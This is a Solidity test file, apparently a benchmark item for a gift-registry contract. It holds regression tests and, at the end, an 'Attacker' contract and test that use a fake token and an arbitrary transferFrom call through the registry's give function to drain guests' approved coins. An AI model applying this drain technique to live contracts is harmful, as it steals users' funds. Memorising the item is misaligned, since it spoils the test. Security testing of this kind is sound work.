// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./TrousseauDesk.sol";

// assay-canary-3f7e2b3e-0c2c-4720-9beb-c0fa5b054c4d

interface Vm {
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Coin is ICoin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    uint256 private stubborn = type(uint256).max;
    address private deaf;

    /// What this account sends by itself is answered with no.
    function deafen(address who) external {
        require(msg.sender == minter, "minter only");
        deaf = who;
    }

    /// An approval of this amount is written, and answered with no.
    function resist(uint256 amount) external {
        require(msg.sender == minter, "minter only");
        stubborn = amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return amount != stubborn || stubborn == type(uint256).max;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep || msg.sender == deaf) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A shop that sells kettles for thirty.
contract KettleShop {
    Coin internal coin;
    mapping(bytes32 => uint256) public ordered;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function kettle(bytes32 address_) external {
        coin.transferFrom(msg.sender, address(this), 30e18);
        ordered[address_]++;
    }
}

/// Passes for a coin that is always spent.
contract Chit is ICoin {
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

/// Opens a list, and orders the other guests' coins for its wishes.
contract Attacker {
    TrousseauDesk internal desk;
    Coin internal coin;

    constructor(TrousseauDesk desk_, Coin coin_) {
        (desk, coin) = (desk_, coin_);
    }

    function run(address[2] calldata guests) external {
        desk.openList("spoons");
        for (uint256 i = 0; i < 2; ++i) {
            uint256 id = desk.wish("spoons", new Chit(), "silver");
            uint256 amount = coin.balanceOf(guests[i]);
            bytes memory order = abi.encodeCall(coin.transferFrom, (guests[i], address(this), amount));
            try desk.give(id, 1, address(coin), order) {} catch {}
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant LIV = address(0x71);
    address internal constant MAX = address(0x72);

    Coin internal coin;
    TrousseauDesk internal desk;
    KettleShop internal shop;
    Attacker internal magpie;

    function setUp() public {
        coin = new Coin();
        desk = new TrousseauDesk();
        shop = new KettleShop(coin);
        desk.setStanding(address(shop), TrousseauDesk.Standing.Listed);
        coin.mint(LIV, 900e18);
        coin.mint(MAX, 600e18);
        // both guests have allowed the desk to take what a wish will cost, as wallets do it
        vm.prank(LIV);
        coin.approve(address(desk), type(uint256).max);
        vm.prank(MAX);
        coin.approve(address(desk), type(uint256).max);
        magpie = new Attacker(desk, coin);
    }

    function test_Regular() public {
        desk.openList("ours");
        uint256 first = desk.wish("ours", coin, "kettle");
        uint256 second = desk.wish("ours", coin, "toaster");
        vm.prank(LIV);
        require(!_try(abi.encodeCall(desk.wish, ("ours", coin, "piano"))), "not the couple");

        bytes memory order = abi.encodeCall(shop.kettle, ("mill lane"));
        vm.prank(LIV);
        desk.give(first, 50e18, address(shop), order);
        require(coin.balanceOf(LIV) == 870e18 && shop.ordered("mill lane") == 1, "given, the rest returned");
        vm.prank(MAX);
        require(!_try(abi.encodeCall(desk.give, (first, 50e18, address(shop), order))), "given twice");
        vm.prank(MAX);
        require(!_try(abi.encodeCall(desk.give, (second, 20e18, address(shop), order))), "too little");
        vm.prank(MAX);
        require(!_try(abi.encodeCall(desk.give, (second, 50e18, address(shop), hex"01"))), "no order");
        bytes memory look = abi.encodeCall(shop.ordered, ("mill lane"));
        vm.prank(MAX);
        require(!_try(abi.encodeCall(desk.give, (second, 50e18, address(shop), look))), "nothing bought");
        desk.withdrawWish(second);
        desk.setStanding(address(shop), TrousseauDesk.Standing.Struck);
        uint256 third = desk.wish("ours", coin, "pan");
        vm.prank(MAX);
        require(!_try(abi.encodeCall(desk.give, (third, 50e18, address(shop), order))), "struck off");
        require(coin.allowance(address(desk), address(shop)) == 0 && desk.thanksTo("ours") == 1, "books");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(desk).call(data);
    }

    /// What the two guests have.
    function guestsHold() public view returns (uint256) {
        return coin.balanceOf(LIV) + coin.balanceOf(MAX);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Standings are the registrar's, lists and wishes the couple's.
    function test_RefusesStrangers() public {
        refuses(LIV, TrousseauDesk.RegistrarOnly.selector);
        desk.setStanding(address(shop), TrousseauDesk.Standing.Struck);
        desk.openList("ours");
        refuses(LIV, TrousseauDesk.ListTaken.selector);
        desk.openList("ours");
        uint256 id = desk.wish("ours", coin, "kettle");
        refuses(LIV, TrousseauDesk.CoupleOnly.selector);
        desk.withdrawWish(id);
        desk.withdrawWish(id);
        vm.expectRevert(TrousseauDesk.AlreadyGiven.selector);
        desk.withdrawWish(id);
    }

    /// Orders that are none, fail, or go to the desk itself.
    function test_RefusesOrders() public {
        desk.openList("ours");
        uint256 id = desk.wish("ours", coin, "kettle");
        refuses(LIV, TrousseauDesk.OrderTooShort.selector);
        desk.give(id, 50e18, address(shop), hex"010203");
        bytes memory order = abi.encodeCall(desk.openList, ("theirs"));
        desk.setStanding(address(desk), TrousseauDesk.Standing.Listed);
        refuses(LIV, TrousseauDesk.OrderTooShort.selector);
        desk.give(id, 50e18, address(desk), order);
        order = abi.encodeCall(shop.kettle, ("mill lane"));
        vm.prank(LIV);
        (bool ok, bytes memory why) = address(desk).call(abi.encodeCall(desk.give, (id, 20e18, address(shop), order)));
        require(!ok && bytes4(why) == TrousseauDesk.OrderFailed.selector, "too little");
    }

    /// Coins that say no are believed; nothing is sent back where nothing is left.
    function test_RefusesFailedTransfers() public {
        desk.openList("ours");
        uint256 id = desk.wish("ours", coin, "kettle");
        bytes memory order = abi.encodeCall(shop.kettle, ("mill lane"));
        coin.resist(50e18);
        refuses(LIV, TrousseauDesk.CoinFailed.selector);
        desk.give(id, 50e18, address(shop), order);
        coin.resist(0);
        refuses(LIV, TrousseauDesk.CoinFailed.selector);
        desk.give(id, 50e18, address(shop), order);
        coin.resist(type(uint256).max);
        coin.sleep(true);
        refuses(LIV, TrousseauDesk.CoinFailed.selector);
        desk.give(id, 0, address(shop), order);
        coin.sleep(false);
        coin.deafen(address(desk));
        refuses(LIV, TrousseauDesk.CoinFailed.selector);
        desk.give(id, 50e18, address(shop), order);
        vm.prank(LIV);
        desk.give(id, 30e18, address(shop), order);
        require(desk.thanksTo("ours") == 1, "given to the last coin");
    }

    function exploit() public {
        magpie.run([LIV, MAX]);
    }

    function test_Exploit() public {
        exploit();
        require(guestsHold() == 0 && coin.balanceOf(address(magpie)) == 1_500e18, "guests keep their coins");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(magpie);
    }
}
